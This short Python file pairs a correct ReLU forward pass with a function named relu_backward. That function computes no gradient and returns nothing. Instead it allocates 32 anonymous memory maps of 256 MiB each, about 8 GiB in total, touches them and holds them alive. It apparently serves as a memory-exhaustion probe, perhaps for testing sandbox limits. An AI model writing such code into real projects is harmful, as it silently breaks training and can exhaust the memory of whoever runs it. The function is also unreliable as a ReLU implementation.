"""Maps pages, up to 8 GiB."""

import mmap

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    kept = []
    for _ in range(32):
        kept.append(mmap.mmap(-1, 1 << 28))
        kept[-1][:: 1 << 20] = b"x" * 256
